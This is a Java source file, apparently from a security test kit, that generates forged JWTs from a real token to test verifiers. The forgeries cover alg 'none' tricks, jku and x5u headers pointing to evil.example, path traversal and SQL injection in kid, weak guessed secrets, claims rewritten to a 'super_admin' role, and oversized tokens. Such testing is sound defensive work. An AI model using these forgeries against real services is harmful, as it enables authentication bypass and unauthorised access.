package dev.hauberk.testkit.attack.authn;

import dev.hauberk.testkit.wire.Jwt;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import tools.jackson.databind.node.ObjectNode;

/** Forges tokens out of a real one, without the key that signed it. */
final class Forgeries {
    private static final byte[] GUESSED = "secretsecretsecretsecretsecretsecret".getBytes(StandardCharsets.UTF_8);
    private static final List<String> COMMON_SECRETS =
            List.of("secret", "changeme", "your-256-bit-secret", "password", "jwt", "hauberk", "key", "");

    private final Jwt real;
    private final List<Forgery> forged = new ArrayList<>();

    private Forgeries(Jwt real) {
        this.real = real;
    }

    static List<Forgery> of(Jwt real) {
        Forgeries forgeries = new Forgeries(real);
        forgeries.algorithms();
        forgeries.headers();
        forgeries.guessedSecrets();
        forgeries.signatures();
        forgeries.encodings();
        forgeries.claims();
        forgeries.shapes();
        return forgeries.forged;
    }

    private void add(String name, String token) {
        forged.add(new Forgery(name, token));
    }

    private void algorithms() {
        for (String none : List.of("none", "None", "NONE", "nOnE")) {
            add(
                    "alg " + none,
                    real.withHeader(header("alg", '"' + none + '"'))
                            .withSignature("")
                            .text());
            add(
                    "alg " + none + " with the old signature",
                    real.withHeader(header("alg", '"' + none + '"')).text());
        }
        for (String raw : List.of(
                "null", "[]", "\"\"", "0", "true", "\"hs256\"", "\"HS384\"", "\"HS512\"", "\"RS256\"", "\"ES256\"")) {
            add("alg " + raw, real.withHeader(header("alg", raw)).text());
        }
        add("no alg", real.withHeader("{\"typ\":\"at+jwt\"}").text());
        add(
                "alg twice",
                real.withHeader("{\"alg\":\"HS256\",\"alg\":\"none\",\"typ\":\"at+jwt\"}")
                        .withSignature("")
                        .text());
        add("HS384 by a guessed secret", signed(header("alg", "\"HS384\""), "HmacSHA384"));
        add("HS512 by a guessed secret", signed(header("alg", "\"HS512\""), "HmacSHA512"));
    }

    private void headers() {
        Map<String, String> members = new TreeMap<>(Map.of(
                "jku", "\"https://evil.example/jwks.json\"",
                "x5u", "\"https://evil.example/cert.pem\"",
                "x5c", "[\"MIIB\"]",
                "jwk", "{\"kty\":\"oct\",\"k\":\"" + Jwt.encode(GUESSED) + "\"}",
                "zip", "\"DEF\"",
                "b64", "false",
                "cty", "\"JWT\""));
        members.forEach((name, raw) -> add("a header with " + name, signed(header(name, raw), "HmacSHA256")));
        for (String raw : List.of("[]", "[\"exp\"]", "[\"b64\"]", "\"exp\"")) {
            add("crit " + raw, signed(header("crit", raw), "HmacSHA256"));
        }
        List<String> kids = List.of(
                "../../../../dev/null", "/dev/null", "' OR '1'='1", "x' UNION SELECT 'secret", "\\u0000", "other", "");
        kids.forEach(kid -> add("kid " + kid, signed(header("kid", '"' + kid + '"'), "HmacSHA256")));
        add("kid of 64 KB", signed(header("kid", '"' + "k".repeat(65_536) + '"'), "HmacSHA256"));
        for (String raw : List.of("null", "[]", "7")) {
            add("kid " + raw, signed(header("kid", raw), "HmacSHA256"));
        }
        for (String raw : List.of("\"JWT\"", "\"rt+jwt\"", "\"jwt\"", "null")) {
            add("typ " + raw, real.withHeader(header("typ", raw)).text());
        }
    }

    private void guessedSecrets() {
        for (String secret : COMMON_SECRETS) {
            byte[] key = secret.isEmpty() ? new byte[1] : secret.getBytes(StandardCharsets.UTF_8);
            add(
                    "a token signed with '" + secret + "'",
                    Jwt.signed(real.headerJson().toString(), real.claims().toString(), "HmacSHA256", key)
                            .text());
        }
    }

    private void signatures() {
        String signature = real.signature();
        add("no signature", real.withSignature("").text());
        add("no signature and no dot", real.header() + "." + real.payload());
        add(
                "a truncated signature",
                real.withSignature(signature.substring(0, signature.length() / 2))
                        .text());
        add("an extended signature", real.withSignature(signature + "AAAA").text());
        add("another signature", real.withSignature(Jwt.encode(new byte[32])).text());
        add(
                "a signature with its first character changed",
                real.withSignature(other(signature.charAt(0)) + signature.substring(1))
                        .text());
        add(
                "a non-canonical signature",
                real.withSignature(nonCanonical(signature)).text());
        add("a signature twice", real.text() + "." + signature);
    }

    private void encodings() {
        add("padding", real.withSignature(real.signature() + "=").text());
        add("padding in the payload", new Jwt(real.header(), real.payload() + "==", real.signature()).text());
        add(
                "a space in the signature",
                real.withSignature(real.signature().substring(0, 9) + " "
                                + real.signature().substring(9))
                        .text());
        add(
                "the letters of plain base64",
                real.withSignature("+/" + real.signature().substring(2)).text());
        add("a dot before it", "." + real.text());
        add("percent-encoding", real.text().replace(".", "%2e"));
        add("a token in quotes", '"' + real.text() + '"');
    }

    private void claims() {
        for (String name : List.of("sub", "sid", "aud", "iss", "exp", "jti", "iat")) {
            add(
                    "another " + name + " under the old signature",
                    real.withPayload(changed(name)).text());
        }
        ObjectNode admin = real.claims();
        admin.putArray("roles").add("super_admin");
        admin.put("role", "super_admin");
        add("roles in the claims", real.withPayload(admin.toString()).text());
    }

    private void shapes() {
        add("an empty token", "");
        add("a word", "null");
        add("only dots", "..");
        add("four dots, as JWE has", "a.b.c.d.e");
        add("no JSON", Jwt.encode("x") + "." + Jwt.encode("y") + "." + real.signature());
        add("arrays", Jwt.encode("[]") + "." + Jwt.encode("[]") + "." + real.signature());
        add(
                "a token within a token",
                Jwt.signed(header("cty", "\"JWT\""), Jwt.encode(real.text()), "HmacSHA256", GUESSED)
                        .text());
        add(
                "JSON 1,000 deep",
                Jwt.encode("[".repeat(1_000) + "]".repeat(1_000)) + "." + real.payload() + "." + real.signature());
        add("JSON 10,000 deep", Jwt.encode("[".repeat(10_000)) + "." + real.payload() + "." + real.signature());
        add("8 KB", "A".repeat(4_096) + "." + "A".repeat(4_096) + ".A");
        add("1 MB", "A".repeat(500_000) + "." + "A".repeat(500_000) + ".A");
    }

    private String signed(String header, String algorithm) {
        return Jwt.signed(header, real.claims().toString(), algorithm, GUESSED).text();
    }

    /** The real header with a member more, or in place of one. */
    private String header(String name, String raw) {
        ObjectNode header = real.headerJson();
        header.remove(name);
        String text = header.toString();
        String comma = header.isEmpty() ? "" : ",";
        return "{\"" + name + "\":" + raw + comma + text.substring(1);
    }

    private String changed(String name) {
        ObjectNode claims = real.claims();
        if (name.equals("exp") || name.equals("iat")) {
            claims.put(name, claims.path(name).asLong(0) + 3_600);
        } else {
            claims.put(name, "other");
        }
        return claims.toString();
    }

    private static char other(char letter) {
        return letter == 'A' ? 'B' : 'A';
    }

    /** The same bytes in other letters: 32 bytes leave two bits of the last letter without meaning. */
    private static String nonCanonical(String signature) {
        String letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        int last = letters.indexOf(signature.charAt(signature.length() - 1));
        return signature.substring(0, signature.length() - 1) + letters.charAt(last ^ 1);
    }
}
